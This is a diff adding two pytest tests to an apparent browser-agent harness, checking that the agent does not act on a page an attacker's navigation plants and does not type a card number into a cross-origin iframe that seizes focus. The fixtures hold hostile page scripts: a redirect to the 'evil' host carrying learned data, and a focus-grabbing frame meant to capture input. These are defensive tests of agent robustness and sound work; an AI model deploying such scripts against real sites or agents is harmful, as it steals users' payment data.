@@ -103,6 +103,48 @@ def on(label: str, template: str) -> Model:
     return Model([lambda tree: template.format(bid=bid_matching(tree, re.escape(label)))])
 
 
+@pytest.mark.parametrize("name", list(ACTIONS))
+async def test_an_action_is_not_taken_on_the_page_a_navigation_planted(
+    browser: Browser, servers: tuple[Site, Site], tmp_path: Path, name: str
+) -> None:
+    site, evil = servers
+    template, label, kind = ACTIONS[name]
+    site.pages["/pay"] = _page(FORM + LEARN + GO.format(
+        action=f"location.href = 'http://127.0.0.1:{evil.port}/plant?kind={kind}&attr=' "
+               "+ window.learned"))
+
+    async def navigate_away() -> None:
+        site.pages["/go"] = (200, {}, "1")
+        await until(lambda: hits(evil, "/plant") > 0, "the page went to the attacker's host")
+        await asyncio.sleep(0.3)  # lets the attacker's page plant: no assertion on time
+
+    model = on(label, template)
+    model.while_thinking[0] = navigate_away
+    summary, steps = await episode(browser, site, evil, "/pay", model, tmp_path)
+    assert acted(evil) == []
+    assert "The page changed since it was observed" in (steps[0].action_error or "")
+    assert f"127.0.0.1:{evil.port}" in (steps[0].action_error or "")
+    assert summary.status == "finished", summary.error
+    assert site.hits["/paid"] == 0
+
+
+async def test_text_is_not_typed_into_a_cross_origin_frame_that_takes_the_focus(
+    browser: Browser, servers: tuple[Site, Site], tmp_path: Path
+) -> None:
+    site, evil = servers
+    site.pages["/pay"] = _page(
+        FORM + f"<iframe src='http://localhost:{evil.port}/grab'></iframe>")
+    evil.pages["/grab"] = _page(
+        "<input id='grab'>" + SPY + "<script>setInterval(() => "
+        "document.getElementById('grab').focus(), 0)</script>")
+    model = on("textbox 'Email'", f"fill('{{bid}}', '{CARD}')")
+    summary, steps = await episode(browser, site, evil, "/pay", model, tmp_path)
+    assert summary.status == "finished", summary.error
+    assert steps[0].action_error is None
+    assert [p for p in acted(evil) if "card" in p] == []
+    assert f"value='{CARD}'" in steps[1].axtree
+
+
 PLANTED_HERE = ("<h1>Planted</h1><div id='planted'></div><script>const attr = new "
                 "URLSearchParams(location.search).get('attr'); const box = "
                 "document.getElementById('planted'); for (let i = 0; i < 60; i++) { const b "
